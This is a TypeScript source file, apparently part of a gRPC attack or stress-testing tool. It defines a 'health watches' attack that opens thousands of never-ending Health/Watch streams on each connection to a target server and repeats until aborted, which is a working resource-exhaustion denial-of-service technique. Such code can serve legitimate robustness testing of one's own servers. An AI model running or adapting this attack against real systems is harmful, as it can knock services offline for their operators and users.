import { type Attack, attackConnections } from './attack.ts';
import { beginCall, head, onConnection } from './grpc-calls.ts';
import { untilAborted } from './until-aborted.ts';

/** How many are opened on a connection, one after the other: as many as were held once. */
const watches = 9000;

/** Streams that tell of the health of a server, and never end. */
export const healthWatches: Attack = {
  name: 'health watches',
  run: (target, signal) =>
    untilAborted(signal, attackConnections, (leave) =>
      onConnection(target, leave, async (session) => {
        for (let count = 0; count < watches && !session.destroyed; count++) {
          beginCall(session, '/grpc.health.v1.Health/Watch').end(head(0));
          if (count % 100 === 0) await new Promise((resolve) => session.ping(resolve));
        }
        await new Promise((resolve) => session.once('close', resolve));
      }),
    ),
};
